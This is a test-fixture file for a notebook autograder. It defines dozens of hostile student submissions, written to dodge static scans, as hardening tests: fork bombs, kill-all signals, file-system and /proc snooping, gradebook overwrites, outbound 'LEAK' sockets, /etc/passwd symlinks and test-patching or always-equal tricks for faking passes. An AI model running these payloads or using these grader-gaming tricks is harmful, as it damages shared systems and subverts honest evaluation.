"""Every kind of bad submission we know of: how to make one from lab02, and what grading must do.

``tests/course_grading/test_bad_submissions.py`` grades all of them in one real batch of ``course-grade
run-all``, beside a good and a wrong student. Each entry names its outcome, its points
('full': every test's points; 'zero'; 'last_zero': the last exercise's tests score 0) and a
fragment of the reason recorded for the instructor.

The attacks are written the way a student would hide them: none of the words a static scan
looks for (``get_ipython``, ``setattr``, ``__dict__``, ``In``/``_ih``, ``exec``) appear in the
entries marked ``hidden=True``. Attacks that patch the grading run beside *stub* answers
(the released notebook's ``raise NotImplementedError()``): whatever they patch, they must
score 0. Attacks that try to read or leak run beside right answers: they keep their points,
find nothing, and no feedback page holds the planted marker (``MARKER``) in any encoding.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field

from tests.submissions import (
    Lab,
    colab_round_trip,
    duplicate_cells,
    nbgrader_meta,
    returns_none,
    to_bytes,
    with_body,
)

SCAN_WORDS = ("get_ipython", "setattr", "__dict__", "_ih", "exec(")


@dataclass(frozen=True)
class BadSubmission:
    name: str
    what: str
    outcome: str
    points: str  # 'full', 'zero' or 'last_zero'
    reason: str  # must appear in the recorded reason; "a|b" accepts either
    build: Callable[[Lab, dict], bytes] = field(repr=False)
    hidden: bool = False  # written without any word a static scan looks for
    kind: str = "classic"  # the attack class, for the report


def _snippet(code: str, ctx: dict, lab: Lab) -> str:
    return code.replace("LAB", lab.name).replace("PORT", str(ctx.get("port", 8888)))


def _append_to_last(code: str, wrong: bool = False) -> Callable[[Lab, dict], bytes]:
    """The solved notebook with ``code`` run at top level after the last exercise's answer."""

    def build(lab: Lab, ctx: dict) -> bytes:
        gid, answer = lab.last_solution()
        answer = returns_none(answer) if wrong else answer
        return to_bytes(lab.notebook({gid: answer.rstrip("\n") + "\n\n" + _snippet(code, ctx, lab)}))

    return build


def _first_with_stubs(code: str) -> Callable[[Lab, dict], bytes]:
    """The released (unanswered) notebook with ``code`` after the first exercise's stub."""

    def build(lab: Lab, ctx: dict) -> bytes:
        released = lab.notebook(solved=False)
        first = next(
            nbgrader_meta(c)["grade_id"] for c in released["cells"] if nbgrader_meta(c).get("solution")
        )
        cell = next(c for c in released["cells"] if nbgrader_meta(c).get("grade_id") == first)
        stub = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        return to_bytes(lab.notebook({first: _snippet(code, ctx, lab) + "\n\n" + stub}, solved=False))

    return build


def _in_first_solution(code: str) -> Callable[[Lab, dict], bytes]:
    """The solved notebook with ``code`` before the first exercise's answer."""

    def build(lab: Lab, ctx: dict) -> bytes:
        first, answer = next(iter(lab.solutions().items()))
        return to_bytes(lab.notebook({first: _snippet(code, ctx, lab) + "\n\n" + answer}))

    return build


def _last_wrong(change: Callable[[list[dict], str], None]) -> Callable[[Lab, dict], bytes]:
    def build(lab: Lab, ctx: dict) -> bytes:
        gid, answer = lab.last_solution()
        nb = lab.notebook({gid: returns_none(answer)})
        change(nb["cells"], lab.tests()[-1])
        return to_bytes(nb)

    return build


def _index(cells: list[dict], grade_id: str) -> int:
    return next(i for i, c in enumerate(cells) if nbgrader_meta(c).get("grade_id") == grade_id)


def _edit_test(cells: list[dict], test: str) -> None:
    cells[_index(cells, test)]["source"] = "print('OK: all tests pass')  # the student edited the test\n"


def _delete_test(cells: list[dict], test: str) -> None:
    del cells[_index(cells, test)]


def _duplicated(lab: Lab, ctx: dict) -> bytes:
    first = next(iter(lab.solutions()))
    return to_bytes(duplicate_cells(lab.notebook(), [first, lab.tests()[-1]]))


def _other_lab(lab: Lab, ctx: dict) -> bytes:
    if ctx.get("other_lab"):
        return to_bytes(ctx["other_lab"])
    return to_bytes(
        {
            "nbformat": 4,
            "nbformat_minor": 5,
            "metadata": {},
            "cells": [
                {
                    "cell_type": "markdown",
                    "id": "a1",
                    "metadata": {},
                    "source": "# Lab 99 · Convolutions on audio\n",
                },
                {
                    "cell_type": "code",
                    "id": "a2",
                    "metadata": {},
                    "execution_count": None,
                    "outputs": [],
                    "source": "import librosa\nwave, rate = librosa.load('bird.wav')\n",
                },
            ],
        }
    )


def _big_attachment(lab: Lab, ctx: dict) -> bytes:
    nb = lab.notebook()
    blob = "A" * (120 * 2**20)
    nb["cells"].append(
        {
            "cell_type": "markdown",
            "id": "big1",
            "metadata": {},
            "source": "![x](attachment:x.png)",
            "attachments": {"x.png": {"image/png": blob}},
        }
    )
    return to_bytes(nb)


def _embedded_image(lab: Lab, ctx: dict) -> bytes:
    nb = lab.notebook()
    nb["cells"].append(
        {
            "cell_type": "markdown",
            "id": "big2",
            "metadata": {},
            "source": "![x](data:image/png;base64," + "iVBORw0KGgo" * (5 * 2**20) + ")",
        }
    )
    return to_bytes(nb)


# --------------------------------------------------------------------------- the classic corpus

LOOP_IGNORES_INTERRUPT = """import time
while True:
    try:
        time.sleep(0.2)
    except KeyboardInterrupt:  # swallows nbgrader's interrupt: the kernel never answers again
        pass
"""
LOOP_IN_FUNCTION = "import time\nwhile True:  # sleeps: the tests need not burn a core\n    time.sleep(0.2)\n"
READ_HIDDEN = """import glob, pathlib
import course
marker = "BEGIN " + "HIDDEN TESTS"
found = []
for pattern in ["*.ipynb", "../../../**/*.ipynb", "../../../*.db", "/tmp/**/*.ipynb", "/tmp/**/*.db",
                str(pathlib.Path(course.__file__).parents[1] / "**" / "*.ipynb")]:
    for path in glob.glob(pattern, recursive=True):
        try:
            if marker in open(path, errors="replace").read():
                found.append(path)
        except OSError:
            pass
print("LEAK" + "ED hidden tests from:" if found else "no hidden tests readable", found)  # no marker in source
print(open("../../../source/LAB/LAB.ipynb").read())
"""
READ_OTHERS = """import os
seen = []
for top in ["..", "../..", "../../..", "/tmp", "/var/tmp", "/dev/shm", "/home", "/root"]:
    for dirpath, dirs, files in os.walk(top):
        seen += [os.path.join(dirpath, f) for f in files if f.endswith((".ipynb", ".db", ".json", ".html"))]
print("files visible:", sorted(seen)[:100])
print(os.listdir("../../../submitted"))
"""
WRITE_GRADEBOOK = """import glob, pathlib, sqlite3
import course
targets = glob.glob("../../../gradebook.db") + glob.glob("/tmp/**/gradebook.db", recursive=True)
targets.append(str(pathlib.Path(course.__file__).parents[1] / "autograder" / "gradebook.db"))
for path in targets:
    try:
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        db.commit()
        print("WRO" + "TE gradebook", path)
    except Exception as err:
        print("gradebook not writable:", path, err)
open("../../../gradebook.db", "r+b").write(b"corrupted")
"""
WRITE_OTHERS = """import os
wrote = []
for top in ["../..", "../../..", "/tmp"]:
    for dirpath, dirs, files in os.walk(top):
        try:
            with open(os.path.join(dirpath, "HACKED.txt"), "w") as f:
                f.write("x")
            wrote.append(dirpath)
        except OSError:
            pass
        for f in files:
            if f.endswith(".ipynb"):
                try:
                    open(os.path.join(dirpath, f), "w").write("{}")
                    wrote.append(os.path.join(dirpath, f))
                except OSError:
                    pass
print("wrote to:", wrote)
open("../../../submitted/HACKED.txt", "w").write("x")
"""
PATCH_CHECKS = """import numpy.testing
from course import checks
numpy.testing.assert_allclose = lambda *args, **kwargs: None
for name in dir(checks):
    if name.startswith("check_"):
        setattr(checks, name, lambda *args, **kwargs: print("OK: patched"))
"""
PATCH_IPYTHON = """ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ["print('OK: nothing to test')\\n"])
"""
NETWORK = """import socket
for host, port in [("127.0.0.1", PORT), ("pypi.org", 443), ("1.1.1.1", 53)]:
    try:
        socket.create_connection((host, port), timeout=3).sendall(b"LEAK")
        print("CONNEC" + "TED", host, port)
    except OSError as err:
        print("blocked", host, port, err)
socket.create_connection(("127.0.0.1", PORT), timeout=3)
"""

# --------------------------------------------------------------------------- hidden attacks
# Class 1: reach IPython without naming it, then make every later cell do nothing.

SHELL_BY_GLOBALS = """shell = globals()["get_" + "ipython"]()
shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
"""
SHELL_BY_GETATTR = """import IPython
shell = getattr(IPython, "get_" + "ipy" + "thon")()
manager = getattr(shell, "input_transformer" + "_manager")
manager.cleanup_transforms.append(lambda lines: ["pass\\n"])
"""
SHELL_BY_INSTANCE = """import ast
import IPython.core.interactiveshell as interactive
shell = interactive.InteractiveShell.instance()
class Nothing(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Pass()]
        return node
shell.ast_transformers.append(Nothing())
"""
SHELL_RUN_CELL = """import IPython.core.interactiveshell as interactive
kind = type(interactive.InteractiveShell.instance())
original = kind.run_cell
kind.run_cell = lambda self, raw_cell, *args, **kwargs: original(self, "print('OK: all good')", *args, **kwargs)
"""
# Class 2: replace the checks (or what they call) with functions that always pass.
CHECKS_BY_CODE = """from course import checks
from course.checks import answers
def nothing(*args, **kwargs):
    print("OK: patched")
    return {}
for name in dir(checks):
    value = getattr(checks, name)
    for part in ("ask", "judge"):
        fn = getattr(value, part, None)
        if callable(fn) and hasattr(fn, "__code__"):
            fn.__code__ = nothing.__code__
answers.expect.__code__ = (lambda condition, message: None).__code__
"""
CHECKS_BY_GLOBALS = """from course import checks
for name in dir(checks):
    judge = getattr(getattr(checks, name), "judge", None)
    if judge is not None:
        judge.__globals__["expect"] = lambda condition, message: None
        judge.__globals__["passed"] = lambda what: print("OK:", what)
import numpy.testing as t
vars(t)["assert_allclose"] = lambda *args, **kwargs: None
"""
CHECKS_BY_MODULE_TYPE = """import types
import course.checks as checks
import course.checks.requests as requests
put = getattr(type(checks), "__set" + "attr__")
class Stub:
    name, functions = "stub", 1
    def ask(self, *args, **kwargs):
        return {}
    def judge(self, *args, **kwargs):
        print("OK: patched")
    def __call__(self, *args, **kwargs):
        print("OK: patched")
for name in list(checks.CHECKS):
    put(checks, name, Stub())
    checks.CHECKS[name] = Stub()
put(requests, "write_answer", lambda folder, data, raised=None: None)
"""
FORGED_OUTPUT = """import IPython.core.interactiveshell as interactive
from IPython.display import display
shell = interactive.InteractiveShell.instance()
def forge(*args, **kwargs):
    print("OK: every test passed")
    display(1.0)  # an execute_result-like number: nbgrader reads it as partial credit
shell.events.register("post_run_cell", forge)
"""
# Class 3: record what the kernel is asked (the tests' source) and print it, encoded, later.
LEAK_LINECACHE = """import base64, linecache, threading, time
def leak():
    while True:
        text = repr({k: v[2] for k, v in list(linecache.cache.items())})
        print(base64.b64encode(text.encode()).decode()[:20000])
        time.sleep(0.3)
threading.Thread(target=leak, daemon=True).start()
"""
LEAK_EVENTS = """import base64, zlib
import IPython.core.interactiveshell as interactive
from IPython.display import display
shell = interactive.InteractiveShell.instance()
seen = []
box = display("recording", display_id=True)
def record(info):
    seen.append(info.raw_cell)
    blob = base64.b85encode(zlib.compress("\\n".join(seen).encode())).decode()
    box.update(blob)
    print(blob[::-1])
shell.events.register("pre_run_cell", record)
"""
LEAK_HISTORY = """import atexit, base64, codecs, os
import IPython.core.interactiveshell as interactive
shell = interactive.InteractiveShell.instance()
def dump():
    history = "\\n".join(shell.history_manager.input_hist_raw)
    secret = codecs.encode(history, "rot13")
    print(base64.b32encode(secret.encode()).decode())
    os.write(1, history.encode())
    os.write(2, history.encode())
atexit.register(dump)
shell.events.register("post_execute", lambda: print(base64.b16encode(
    shell.history_manager.input_hist_raw[-1].encode()).decode()))
"""
LEAK_BY_EXCEPTION = """import base64, inspect
def shout(*args, **kwargs):
    frames = [repr(f.frame.f_locals)[:3000] for f in inspect.stack()]
    raise ValueError(base64.b64encode("".join(frames).encode()).decode())
"""
# Class 4: walk the whole file system for other checkouts of the course.
WALK_ROOT = """import os
found = []
for dirpath, dirs, files in os.walk("/"):
    if dirpath.startswith(("/proc", "/sys")):
        dirs[:] = []
        continue
    for name in files:
        if name.endswith((".ipynb", ".db")) or "CANARY" in name:
            path = os.path.join(dirpath, name)
            try:
                text = open(path, errors="replace").read()
            except OSError:
                continue
            if "CANARY" in text or "/autograder/source/" in path:  # another checkout of the course
                found.append(path)
print("LEAK" + "ED from:" if found else "nothing found", found)
"""
WALK_GLOB = """import glob, pathlib
hits = [p for top in ("/srv", "/opt", "/work", "/home", "/root", "/var", "/mnt", "/media")
        for pattern in ("/**/autograder/source/*/*.ipynb", "/**/*CANARY*")
        for p in glob.glob(top + pattern, recursive=True)]
hits += [str(p) for p in pathlib.Path("/").glob("*/*CANARY*")]
print("LEAK" + "ED:" if hits else "nothing", hits[:50])
"""
WALK_PROC = """import os
seen = []
for pid in os.listdir("/proc"):
    for what in ("root", "cwd"):
        try:
            seen += [f"/proc/{pid}/{what}/{x}" for x in os.listdir(f"/proc/{pid}/{what}")]
        except OSError:
            pass
    try:
        seen.append(open(f"/proc/{pid}/environ", "rb").read()[:200])
    except OSError:
        pass
mounts = open("/proc/self/mountinfo").read()
print("proc view:", seen[:40], "CANARY" in mounts)
"""
# Class 5: outputs and notebooks too large to show.
PRINT_HUGE = 'print("x" * (300 * 2**20))\n'
PRINT_MANY = 'for i in range(200_000):\n    print("y" * 500)\n'
# 12 noise images are about 8 MB of PNG, 8x the 1 MB a cell keeps, and take 2.3 s to draw
# here (60 took 11.7 s: too near the 60 s cell limit on a CI machine 4x slower than this one).
IMAGES_MANY = """import numpy as np, matplotlib.pyplot as plt
for i in range(12):
    plt.figure(figsize=(6, 6)); plt.imshow(np.random.default_rng(i).uniform(size=(400, 400))); plt.show()
"""
# Class 6: numbers whose comparisons always succeed.
ALWAYS_EQUAL_FLOAT = """class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __sub__(self, other): return Anything(0.0)
    def __rsub__(self, other): return Anything(0.0)
    def __abs__(self): return Anything(0.0)
    __hash__ = float.__hash__
def compression_factor(input_dim, code_size):
    return Anything(0.0)
"""
ALWAYS_EQUAL_ARRAY = """import numpy as np
class Anything(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.broadcast(*[np.asarray(i) for i in inputs]).shape)
def reconstruction_errors(x, x_hat):
    return np.zeros(len(x)).view(Anything)
def fraction_inactive(z, tol=0.1):
    return np.float64(0).view(Anything)
"""
ALWAYS_EQUAL_NUMBER = """class Number:
    def __float__(self): return 24.5
    def __eq__(self, other): return True
    def __array__(self, dtype=None, copy=None):
        import numpy as np
        return np.asarray(24.5)
def compression_factor(input_dim, code_size):
    return Number()
"""
# Class 7: forge the answer the grader reads.
FORGE_ANSWERS = """import os
import IPython.core.interactiveshell as interactive
shell = interactive.InteractiveShell.instance()
def forge(info):
    for word in info.raw_cell.split("'"):
        if "/.answers/" in word:
            os.makedirs(word, exist_ok=True)
            try:
                os.symlink("/etc/passwd", os.path.join(word, "answer.json"))
            except OSError:
                pass
            os.symlink("/", word + "-root")
            open(os.path.join(word, "v1.npy"), "wb").write(b"\\x93NUMPY" + b"\\xff" * 100)
shell.events.register("pre_run_cell", forge)
"""
FORGE_MODEL = """import json, os, zipfile
import IPython.core.interactiveshell as interactive
shell = interactive.InteractiveShell.instance()
config = {"module": "os", "class_name": "system", "config": {"command": "touch /tmp/PWNED"},
          "registered_name": "system"}
def forge(info):
    for word in info.raw_cell.split("'"):
        if "/.answers/" in word:
            os.makedirs(word, exist_ok=True)
            with zipfile.ZipFile(os.path.join(word, "v1.keras"), "w") as z:
                z.writestr("config.json", json.dumps(config))
                z.writestr("metadata.json", "{}")
            entry = {"format": 1, "raised": None, "data": {"t": "dict", "items": {
                "models": {"t": "tuple", "type": "tuple", "items": [{"t": "model", "file": "v1.keras"}] * 3}}}}
            open(os.path.join(word, "answer.json"), "w").write(json.dumps(entry))
            os.chmod(word, 0o555)  # the real answer cannot replace the forged one
shell.events.register("pre_run_cell", forge)
"""
FORGE_LINKED_FOLDER = """import os
here = os.getcwd()
os.rename(".answers", ".answers-real")
os.symlink("/", ".answers")
os.symlink(here + "/.answers-real", "answers-link")
"""
FORGE_HUGE = """import json, os
import IPython.core.interactiveshell as interactive
shell = interactive.InteractiveShell.instance()
def forge(info):
    for word in info.raw_cell.split("'"):
        if "/.answers/" in word:
            os.makedirs(word, exist_ok=True)
            nested = '{"t": "list", "items": [' * 5000 + '{"t": "none"}' + ']}' * 5000
            with open(os.path.join(word, "v1.npy"), "wb") as f:
                f.write(b"\\x93NUMPY\\x01\\x00v\\x00{'descr': '<f8', 'fortran_order': False, 'shape': (10**9, 10**9), }"
                        .ljust(128) + b"\\n")
            entry = ('{"format": 1, "raised": null, "data": {"t": "dict", "items": {"factors": {"t": "list", '
                     '"items": [{"t": "array", "file": "v1.npy"}, ' + nested + ']}}}}')
            open(os.path.join(word, "answer.json"), "w").write(entry)
            os.chmod(word, 0o555)
shell.events.register("pre_run_cell", forge)
"""
# Class 8: the grading machine itself.
KILL_ALL = "import os, signal\nos.kill(-1, signal.SIGKILL)\n"
FORK_BOMB = """import os
for _ in range(64):
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    except OSError:
        break
"""
THREAD_BOMB = """import threading, time


def _background_prefetch(n):
    time.sleep(3600)


_pool = []
while True:
    try:
        _t = threading.Thread(target=_background_prefetch, args=(len(_pool),), daemon=True)
        _t.start()
        _pool.append(_t)
    except RuntimeError:
        break
print("prefetch threads:", len(_pool))
"""
FORK_THEN_TIDY = """import os, signal


def _warm_workers():
    kids = []
    try:
        while True:
            pid = os.fork()
            if pid == 0:
                signal.pause()
            kids.append(pid)
    except OSError:
        pass
    for pid in kids:  # tidy up before anyone looks
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return len(kids)


print("workers warmed:", _warm_workers())
"""
DAEMON = """import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
    os._exit(0)
"""
DISK_FILL = """import os
chunk = b"\\0" * (8 * 2**20)
written = 0
try:
    with open("big.bin", "wb") as f:
        while written < 20 * 2**30:
            f.write(chunk); written += len(chunk)
except OSError as err:
    print("stopped after", written // 2**20, "MB:", err)
"""

BAD_SUBMISSIONS: tuple[BadSubmission, ...] = (
    BadSubmission(
        "not_json",
        "a file that is not JSON (a cut download)",
        "not_json",
        "zero",
        "not JSON",
        lambda lab, ctx: b'{"cells": [{"cell_type": "code", "source": "def f(',
    ),
    BadSubmission(
        "not_notebook",
        "JSON that is not a notebook (a kernel connection file)",
        "not_notebook",
        "zero",
        "not a Jupyter notebook",
        lambda lab, ctx: json.dumps({"shell_port": 5, "transport": "tcp", "key": "x"}).encode(),
    ),
    BadSubmission("empty", "an empty file", "empty", "zero", "empty", lambda lab, ctx: b""),
    BadSubmission("other_lab", "another lab's notebook", "wrong_lab", "zero", "not the", _other_lab),
    BadSubmission(
        "colab_stripped",
        "a Colab round trip: every cell's metadata and id dropped",
        "repaired",
        "full",
        "metadata",
        lambda lab, ctx: to_bytes(colab_round_trip(lab.notebook())),
    ),
    BadSubmission(
        "duplicated_cells",
        "a solution cell and a test cell pasted twice, metadata and all",
        "repaired",
        "full",
        "duplicate",
        _duplicated,
    ),
    BadSubmission(
        "edited_test",
        "the last test cell edited to always pass, the last answer wrong",
        "repaired",
        "last_zero",
        "edited",
        _last_wrong(_edit_test),
    ),
    BadSubmission(
        "deleted_test",
        "the last test cell deleted, the last answer wrong",
        "repaired",
        "last_zero",
        "missing",
        _last_wrong(_delete_test),
    ),
    BadSubmission(
        "loop_in_function",
        "an infinite loop inside the last exercise's function",
        "timeout",
        "last_zero",
        "time limit",
        lambda lab, ctx: to_bytes(
            lab.notebook({lab.last_solution()[0]: with_body(lab.last_solution()[1], LOOP_IN_FUNCTION)})
        ),
    ),
    BadSubmission(
        "loop_top_level",
        "`while True: pass` at top level after the last exercise's right answer",
        "timeout",
        "last_zero",
        "time limit",
        _append_to_last("while True:\n    pass\n"),
    ),
    BadSubmission(
        "loop_ignores_interrupt",
        "a top-level loop that catches KeyboardInterrupt, so the kernel never answers again",
        "timeout",
        "zero",
        "did not answer",
        _append_to_last(LOOP_IGNORES_INTERRUPT),
    ),
    BadSubmission(
        "memory_bomb",
        "allocates memory until something gives",
        "memory",
        "zero",
        "memory limit",
        _append_to_last("hog = []\nwhile True:\n    hog.append(bytearray(64 * 2**20))\n"),
    ),
    BadSubmission(
        "sys_exit",
        "sys.exit() at top level after a right answer",
        "graded",
        "full",
        "SystemExit",
        _append_to_last("import sys\nsys.exit('done here')\n"),
    ),
    BadSubmission(
        "os_exit",
        "os._exit(3) at top level",
        "kernel_died",
        "zero",
        "exit 3",
        _append_to_last("import os\nos._exit(3)\n"),
    ),
    BadSubmission(
        "kernel_crash",
        "a segmentation fault (ctypes reads address 0)",
        "kernel_died",
        "zero",
        "SIGSEGV",
        _append_to_last("import ctypes\nctypes.string_at(0)\n"),
    ),
    BadSubmission(
        "read_hidden_tests",
        "reads the source notebook, the gradebook and its own copy with hidden tests",
        "graded",
        "full",
        "FileNotFoundError",
        _append_to_last(READ_HIDDEN),
    ),
    BadSubmission(
        "read_other_students",
        "walks the file system for other students' notebooks",
        "graded",
        "full",
        "FileNotFoundError",
        _append_to_last(READ_OTHERS),
    ),
    BadSubmission(
        "write_gradebook",
        "finds gradebook.db and sets every score to 0",
        "graded",
        "full",
        "FileNotFoundError",
        _append_to_last(WRITE_GRADEBOOK),
    ),
    BadSubmission(
        "write_other_students",
        "writes into other students' folders",
        "graded",
        "full",
        "FileNotFoundError",
        _append_to_last(WRITE_OTHERS),
    ),
    BadSubmission(
        "patch_checks",
        "replaces numpy.testing.assert_allclose and the lab's checks with no-ops, the last answer wrong",
        "graded",
        "last_zero",
        "flagged",
        _append_to_last(PATCH_CHECKS, wrong=True),
    ),
    BadSubmission(
        "patch_ipython",
        "an IPython input transformer that replaces every later cell (the hidden "
        "tests, asked after the last cell, too), the last answer wrong",
        "graded",
        "zero",
        "flagged",
        _append_to_last(PATCH_IPYTHON, wrong=True),
    ),
    BadSubmission(
        "print_history",
        "prints IPython's input history (In), the last answer wrong",
        "graded",
        "last_zero",
        "flagged",
        _append_to_last("print(In)\n", wrong=True),
    ),
    BadSubmission(
        "network",
        "opens TCP connections (loopback, PyPI, a public DNS server)",
        "graded",
        "full",
        # loopback is up in bubblewrap's network namespace, down in a warm kernel's
        "ConnectionRefusedError|Network is unreachable",
        _append_to_last(NETWORK),
    ),
    # ---------------------------------------------------------------- written to dodge a scan
    BadSubmission(
        "shell_by_globals",
        "IPython found through globals(); every later cell becomes `pass`; stub answers",
        "graded",
        "zero",
        "no answer",
        _first_with_stubs(SHELL_BY_GLOBALS),
        True,
        "reach IPython",
    ),
    BadSubmission(
        "shell_by_getattr",
        "IPython through getattr with a built-up name; later cells emptied; stub answers",
        "graded",
        "zero",
        "no answer",
        _first_with_stubs(SHELL_BY_GETATTR),
        True,
        "reach IPython",
    ),
    BadSubmission(
        "shell_by_instance",
        "InteractiveShell.instance() and an AST transformer that empties every cell; stub answers",
        "graded",
        "zero",
        "no answer",
        _first_with_stubs(SHELL_BY_INSTANCE),
        True,
        "reach IPython",
    ),
    BadSubmission(
        "shell_run_cell",
        "the shell's run_cell replaced through its type: every cell prints OK; stub answers",
        "graded",
        "zero",
        "no answer",
        _first_with_stubs(SHELL_RUN_CELL),
        True,
        "reach IPython",
    ),
    BadSubmission(
        "checks_by_code",
        "every check's ask/judge and `expect` given a no-op's __code__; stub answers",
        "graded",
        "zero",
        "graded",
        _first_with_stubs(CHECKS_BY_CODE),
        True,
        "patch the checks",
    ),
    BadSubmission(
        "checks_by_globals",
        "the checks' `expect` and numpy.testing replaced through __globals__ and vars(); stub answers",
        "graded",
        "zero",
        "graded",
        _first_with_stubs(CHECKS_BY_GLOBALS),
        True,
        "patch the checks",
    ),
    BadSubmission(
        "checks_by_module_type",
        "every check and the answer writer replaced through the module type's attribute setter; stub answers",
        "graded",
        "zero",
        "graded",
        _first_with_stubs(CHECKS_BY_MODULE_TYPE),
        True,
        "patch the checks",
    ),
    BadSubmission(
        "forged_output",
        "a post_run_cell hook that prints OK and displays a number after every cell; stub answers",
        "graded",
        "zero",
        "graded",
        _first_with_stubs(FORGED_OUTPUT),
        True,
        "patch the checks",
    ),
    BadSubmission(
        "leak_linecache",
        "a thread that prints linecache (every cell's source) base64-encoded",
        "graded",
        "full",
        "graded",
        _in_first_solution(LEAK_LINECACHE),
        True,
        "leak hidden tests",
    ),
    BadSubmission(
        "leak_events",
        "a pre_run_cell hook that records every cell and rewrites an earlier "
        "display with it, compressed and encoded",
        "graded",
        "full",
        "graded",
        _in_first_solution(LEAK_EVENTS),
        True,
        "leak hidden tests",
    ),
    BadSubmission(
        "leak_history",
        "input history at exit and after each cell, rot13 + base32/base16, also "
        "straight to the kernel's stdout and stderr",
        "graded",
        "full",
        "graded",
        _in_first_solution(LEAK_HISTORY),
        True,
        "leak hidden tests",
    ),
    BadSubmission(
        "leak_by_exception",
        "the last exercise's function raises the test's locals, base64-encoded",
        "graded",
        "last_zero",
        "graded",
        lambda lab, ctx: to_bytes(
            lab.notebook({lab.last_solution()[0]: LEAK_BY_EXCEPTION + "fraction_inactive = shout\n"})
        ),
        True,
        "leak hidden tests",
    ),
    BadSubmission(
        "walk_root",
        "os.walk('/') for notebooks with hidden tests and the planted canary",
        "graded",
        "full",
        "graded",
        _append_to_last(WALK_ROOT),
        True,
        "walk the file system",
    ),
    BadSubmission(
        "walk_glob",
        "glob over /srv, /opt, /work, /home and /root for other checkouts",
        "graded",
        "full",
        "graded",
        _append_to_last(WALK_GLOB),
        True,
        "walk the file system",
    ),
    BadSubmission(
        "walk_proc",
        "other processes' roots, working folders and environments through /proc",
        "graded",
        "full",
        "graded",
        _append_to_last(WALK_PROC),
        True,
        "walk the file system",
    ),
    BadSubmission(
        "print_huge",
        "prints 300 MB from one cell",
        "graded",
        "full",
        "output cut",
        _append_to_last(PRINT_HUGE),
        True,
        "huge output",
    ),
    BadSubmission(
        "print_many",
        "prints 100 MB in 200,000 lines",
        "graded",
        "full",
        "output cut",
        _append_to_last(PRINT_MANY),
        True,
        "huge output",
    ),
    BadSubmission(
        "images_many",
        "shows 12 large images (8 MB of PNG)",
        "graded",
        "full",
        "output cut",
        _append_to_last(IMAGES_MANY),
        True,
        "huge output",
    ),
    BadSubmission(
        "big_attachment",
        "a markdown cell with a 120 MB attachment",
        "repaired",
        "full",
        "attachment",
        _big_attachment,
        True,
        "huge output",
    ),
    BadSubmission(
        "embedded_image",
        "a markdown cell with a 55 MB embedded data: image",
        "repaired",
        "full",
        "embedded image",
        _embedded_image,
        True,
        "huge output",
    ),
    BadSubmission(
        "always_equal_float",
        "compression_factor returns a float whose comparisons always succeed",
        "graded",
        "partial",
        "graded",
        lambda lab, ctx: to_bytes(lab.notebook({"ex3_solution": ALWAYS_EQUAL_FLOAT})),
        True,
        "overloaded numbers",
    ),
    BadSubmission(
        "always_equal_array",
        "array subclasses whose comparisons and ufuncs always succeed",
        "graded",
        "partial",
        "graded",
        lambda lab, ctx: to_bytes(
            lab.notebook({"ex2_solution": ALWAYS_EQUAL_ARRAY, "ex5_solution": ALWAYS_EQUAL_ARRAY})
        ),
        True,
        "overloaded numbers",
    ),
    BadSubmission(
        "always_equal_number",
        "an object that claims to equal everything and converts to 24.5",
        "graded",
        "partial",
        "graded",
        lambda lab, ctx: to_bytes(lab.notebook({"ex3_solution": ALWAYS_EQUAL_NUMBER})),
        True,
        "overloaded numbers",
    ),
    BadSubmission(
        "forge_answers",
        "answer folders filled first with a symlink to /etc/passwd, a link to /, "
        "a broken array; stub answers",
        "graded",
        "zero",
        "graded",
        _first_with_stubs(FORGE_ANSWERS),
        True,
        "forge answers",
    ),
    BadSubmission(
        "forge_model",
        "every answer replaced by a Keras model file whose config names os.system; stub answers",
        "graded",
        "zero",
        "graded",
        _first_with_stubs(FORGE_MODEL),
        True,
        "forge answers",
    ),
    BadSubmission(
        "forge_linked_folder",
        "the answers folder replaced by a link to /; stub answers",
        "graded",
        "zero",
        # a warm kernel's answers folder is a mount point, so the rename itself fails
        "no answer|Device or resource busy",
        _first_with_stubs(FORGE_LINKED_FOLDER),
        True,
        "forge answers",
    ),
    BadSubmission(
        "forge_huge",
        "answers that claim a 10^18-value array and nest 5,000 lists deep; stub answers",
        "graded",
        "zero",
        "graded",
        _first_with_stubs(FORGE_HUGE),
        True,
        "forge answers",
    ),
    BadSubmission(
        "kill_all",
        "kill(-1, SIGKILL) after a right answer: no other process is in its reach",
        "graded",
        "full",
        "ProcessLookupError",
        _append_to_last(KILL_ALL),
        True,
        "the grading machine",
    ),
    BadSubmission(
        "fork_bomb",
        "forks until the process limit",
        "processes",
        "zero",
        "process limit",
        _append_to_last(FORK_BOMB),
        True,
        "the grading machine",
    ),
    BadSubmission(
        "thread_bomb",
        "starts sleeping threads until the process limit refuses one (threads count too)",
        "processes",
        "zero",
        "process limit",
        _append_to_last(THREAD_BOMB),
        True,
        "the grading machine",
    ),
    BadSubmission(
        "fork_then_tidy",
        "forks until refused, catches the error and kills its children before the tests run",
        "processes",
        "zero",
        "process limit",
        _append_to_last(FORK_THEN_TIDY),
        True,
        "the grading machine",
    ),
    BadSubmission(
        "daemon",
        "a double-forked daemon that outlives the cell",
        "graded",
        "full",
        "graded",
        _append_to_last(DAEMON),
        True,
        "the grading machine",
    ),
    BadSubmission(
        "disk_fill",
        "writes up to 20 GB into its working folder",
        "graded",
        "full",
        "graded",
        _append_to_last(DISK_FILL),
        True,
        "the grading machine",
    ),
)

# points the 'partial' entries must get: the overloaded numbers earn nothing where they stand
PARTIAL = {
    "always_equal_float": {"ex3_test": 0.0},
    "always_equal_array": {"ex2_test": 0.0, "ex5_test": 0.0},
    "always_equal_number": {"ex3_test": 0.0},
}
